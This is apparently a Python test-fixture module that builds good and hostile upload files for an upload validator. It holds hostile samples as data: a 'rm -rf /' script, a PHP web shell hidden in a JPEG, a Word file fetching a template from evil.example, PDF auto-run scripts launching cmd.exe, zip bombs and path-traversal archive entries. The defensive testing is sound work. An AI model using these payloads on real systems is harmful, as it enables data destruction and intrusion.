"""Files that people upload, good and hostile, made when they are needed: none of them is kept in the project."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from functools import cache

from PIL import Image
from pypdf import PdfWriter
from xlsxwriter import Workbook

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
"""The harmless file that every scanner takes for a virus; in two parts, so that no scanner takes this module for it."""


def pdf(extra: bytes = b"", *, header: bytes = b"%PDF-1.7\n", tail: bytes = b"") -> bytes:
    """A PDF of one empty page, with what is added to its catalogue."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    return _written(objects, header=header) + tail


def _written(objects: Sequence[bytes], *, header: bytes = b"%PDF-1.7\n", trailer: bytes = b"") -> bytes:
    out, places = header, []
    for number, one in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)


def pdf_with_stream(dictionary: bytes, stream: bytes) -> bytes:
    """A PDF with one more object, a stream."""
    return _written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"<< /Length %d %s >>\nstream\n" % (len(stream), dictionary) + stream + b"\nendstream",
        ]
    )


def packed_objects(objects: bytes) -> bytes:
    """A PDF whose objects are packed into an object stream."""
    return pdf_with_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"5 0 " + objects))


@cache
def written_pdf() -> bytes:
    """A PDF as a program writes it."""
    out, writer = io.BytesIO(), PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Title": "A quote"})
    writer.compress_identical_objects()
    writer.write(out)
    return out.getvalue()


def locked_pdf() -> bytes:
    out, writer = io.BytesIO(), PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(out, kind, **more)
    return out.getvalue()


def located_picture(comment: bytes = b"by Ada") -> bytes:
    """A JPEG that says where it was taken, and is to be turned by a quarter."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Phone"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (52.0, 34.0, 12.0)
    return picture(exif=exif, comment=comment)


def huge_png(side: int = 20_000) -> bytes:
    """A PNG of a few bytes that says that it has hundreds of millions of pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def zipped(parts: Mapping[str, bytes] | Sequence[tuple[str, bytes]], *, stored: Sequence[str] = ("mimetype",)) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items() if isinstance(parts, Mapping) else parts:
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, how)
    return out.getvalue()


_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.example/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="%s"/></Types>'
)
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_RELATIONSHIPS = '<?xml version="1.0"?><Relationships>%s</Relationships>'


def docx(more: Mapping[str, bytes] | None = None, *, kind: str = _WORD, text: bytes = b"<w:t>Quote</w:t>") -> bytes:
    return zipped(docx_parts(kind=kind, text=text) | dict(more or {}))


def docx_parts(*, kind: str = _WORD, text: bytes = b"<w:t>Quote</w:t>") -> dict[str, bytes]:
    return {
        "[Content_Types].xml": (_TYPES % kind).encode(),
        "_rels/.rels": (_RELATIONSHIPS % "").encode(),
        "word/document.xml": b'<?xml version="1.0"?><w:document>' + text + b"</w:document>",
    }


def fetching_docx() -> bytes:
    target = 'Target="https://evil.example/t.dotm" TargetMode="External"'
    relationship = f'<Relationship Id="r1" Type="x/relationships/attachedTemplate" {target}/>'
    return docx({"word/_rels/settings.xml.rels": (_RELATIONSHIPS % relationship).encode()})


@cache
def xlsx() -> bytes:
    """A workbook as a program writes it."""
    out = io.BytesIO()
    with Workbook(out) as book:
        book.add_worksheet().write("A1", "Budget")
    return out.getvalue()


def opendocument(
    kind: str = "text", more: Mapping[str, bytes] | None = None, content: bytes = b"<t>Policy</t>"
) -> bytes:
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
            "content.xml": b'<?xml version="1.0"?>' + content,
            "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest/>',
            **(more or {}),
        }
    )


def overlapping() -> bytes:
    """An archive whose parts are one and the same bytes: it unpacks to many times what it seems to hold."""
    data = docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        first = archive.infolist()[-1]
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    directory = data[start:end]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    more = b"".join(
        last.replace(b"word/document.xml", b"word/document%d.xml"[:0] + b"word/documen%d.xml" % n) for n in range(5)
    )
    assert first.filename == "word/document.xml"
    parts = 3 + 5
    return (
        data[:start] + directory + more
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, parts, parts, len(directory) + len(more), start, 0)
    )  # fmt: skip


def locked_zip() -> bytes:
    data = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def link_in_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in docx_parts().items():
            archive.writestr(name, data)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


GOOD: Mapping[str, tuple[bytes, str]] = {
    "PDF by hand": (pdf(), "application/pdf"),
    "PDF by a program": (written_pdf(), "application/pdf"),
    "PDF with packed objects": (packed_objects(b"<< /Title (Quote) >>"), "application/pdf"),
    "JPEG": (picture(), "image/jpeg"),
    "JPEG from a phone": (located_picture(), "image/jpeg"),
    "PNG": (picture("PNG"), "image/png"),
    "Word": (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "Excel": (xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "OpenDocument text": (opendocument(), "application/vnd.oasis.opendocument.text"),
    "OpenDocument spreadsheet": (opendocument("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
}
"""What is taken, and what it is."""

_SCRIPT = b"<script>alert(1)</script>"

HOSTILE: Mapping[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    # wrong kind
    "nothing at all": ("quote.pdf", b"", "empty"),
    "a program called PDF": ("quote.pdf", b"MZ\x90\x00" + b"\0" * 300, "cannot take"),
    "a Linux program": ("quote.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 300, "cannot take"),
    "a shell script": ("quote.pdf", b"#!/bin/sh\nrm -rf /\n", "cannot take"),
    "a web page": ("quote.pdf", b"<!DOCTYPE html><html>" + _SCRIPT + b"</html>", "cannot take"),
    "a drawing that runs scripts": ("logo.png", b"<svg xmlns='x'>" + _SCRIPT + b"</svg>", "cannot take"),
    "plain text": ("quote.docx", b"We offer 12 gloves for 500 pounds.", "cannot take"),
    "a GIF": ("photo.jpg", b"GIF89a" + b"\x01\0\x01\0\0\0\0;", "cannot take"),
    "a RAR": ("quotes.docx", b"Rar!\x1a\x07\x00" + b"\0" * 50, "cannot take"),
    "a gzip": ("quotes.xlsx", b"\x1f\x8b\x08\0" + b"\0" * 50, "cannot take"),
    "an old Word file": ("quote.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old kind of Office file"),
    "a photo that only an iPhone reads": ("photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "HEIC"),
    "nothing but noise": ("quote.pdf", bytes(range(7, 256)) * 40, "cannot take"),
    # archives
    "an archive that is no document": ("quotes.docx", zipped({"quote.txt": b"500"}), "archive, not a document"),
    "a bomb": ("quote.docx", docx({"word/media.xml": b"0" * 3_000_000}), "unpacks to far more"),
    "a bomb of many parts": (
        "quote.docx", lambda: docx({f"word/part{n}.xml": bytes(990_000) for n in range(105)}), "unpacks to far more",
    ),
    "a bomb of overlapping parts": ("quote.docx", overlapping(), "unpacks to far more"),
    "archives in an archive": ("quote.docx", docx({"word/media/a.dat": zipped({"b": b"c"})}), "another file inside"),
    "a part that climbs out": ("quote.docx", docx({"../../etc/passwd.xml": b"x"}), "lead outside"),
    "a part with a path of its own": ("quote.docx", docx({"/etc/cron.d/x.xml": b"x"}), "lead outside"),
    "a part with a Windows path": ("quote.docx", docx({"C:\\windows\\x.xml": b"x"}), "lead outside"),
    "a part that is a link": ("quote.docx", link_in_zip(), "hidden in it"),
    "a thousand thousand parts": ("q.docx", docx({f"word/{n}.xml": b"" for n in range(3_001)}), "too many parts"),
    "two parts of one name": (
        "quote.docx", zipped([*docx_parts().items(), ("WORD/document.xml", b"x")]), "hidden in it",
    ),
    "a locked archive": ("quote.docx", locked_zip(), "locked with a password"),
    "an archive cut short": ("quote.docx", docx()[:-30], "damaged"),
    "Word with macros": ("quote.docx", docx({"word/vbaProject.bin": b"x"}), "macros"),
    "Word with macros by its kind": (
        "quote.docx", docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros",
    ),
    "Word that starts a program": ("q.docx", docx(text=b"<w:instrText>DDEAUTO cmd</w:instrText>"), "macros"),
    "Word with a program inside": ("q.docx", docx({"word/embeddings/oleObject1.bin": b"MZ"}), "another file inside"),
    "Word that fetches a template": ("q.docx", fetching_docx(), "fetches parts"),
    "Word with entities": ("q.docx", docx({"word/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]>'}), "hidden in it"),
    "OpenDocument with macros": ("p.odt", opendocument(more={"Basic/Standard/M.xml": b"x"}), "macros"),
    "OpenDocument that runs a script": (
        "p.odt", opendocument(content=b'<script:event-listener xlink:href="x"/>'), "macros",
    ),
    # PDFs
    "PDF with a script": ("q.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "by itself"),
    "PDF with a script spelt oddly": ("q.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>"), "by itself"),
    "PDF with a packed script": ("q.pdf", packed_objects(b"<< /S /JavaScript >>"), "by itself"),
    "PDF with a script in a page": (
        "q.pdf", pdf_with_stream(b"", b"9 0 obj << /S /JavaScript >> endobj"), "by itself",
    ),
    "PDF that starts a program": ("q.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "by itself"),
    "PDF with a file inside": ("q.pdf", pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), "another file inside"),
    "PDF with a password": ("q.pdf", locked_pdf(), "locked with a password"),
    "PDF that is a bomb": (
        "q.pdf",
        lambda: pdf_with_stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(bytes(60_000_000), 9)),
        "unpacks to far more",
    ),
    "PDF cut short": ("q.pdf", pdf()[:-20], "damaged"),
    # two things at once
    "PDF and archive": ("q.pdf", pdf(tail=zipped({"a": b"b"})), "hidden"),
    "PDF with an archive in its last object": (
        "q.pdf", pdf_with_stream(b"", zipped({"a.txt": b"b"})), "archive hidden",
    ),
    "PDF and web page": ("q.pdf", pdf(header=b"%PDF-1.7\n" + _SCRIPT + b"\n"), "web page hidden"),
    "PDF with something after its end": ("q.pdf", pdf(tail=b"MZ\x90"), "hidden after its end"),
    "JPEG and archive": ("photo.jpg", picture() + zipped({"a": b"b"}), "archive hidden"),
    "JPEG and PHP": ("photo.php.jpg", located_picture(b"<?php system($_GET[0]); ?>"), "web page hidden"),
    "PNG and web page": ("photo.png", picture("PNG") + b"<html>" + _SCRIPT, "web page hidden"),
    "archive and program": ("q.docx", docx() + b"MZ\x90", "hidden in it"),
    "program before an archive": ("q.docx", b"PK\x03\x04" + b"MZ" * 40 + docx(), "hidden in it"),
    # pictures
    "a picture of 400 million pixels": ("photo.png", huge_png(), "too many pixels"),
    "a picture cut short": ("photo.jpg", picture(size=(600, 400))[:700], "damaged"),
    "a picture that is only a beginning": ("photo.png", b"\x89PNG\r\n\x1a\n", "damaged"),
    # too much
    "ten megabytes and a byte": ("q.pdf", lambda: b"%PDF-1.7\n" + b"\0" * (10_000_000 - 8), "larger than 10 MB"),
}  # fmt: skip
"""What is refused: as what it comes, what it is, and what the person is told."""


def hostile(name: str) -> tuple[str, bytes, str]:
    """One of the hostile files: as what it comes, what it is, and what the person is told."""
    called, data, says = HOSTILE[name]
    return called, data if isinstance(data, bytes) else data(), says
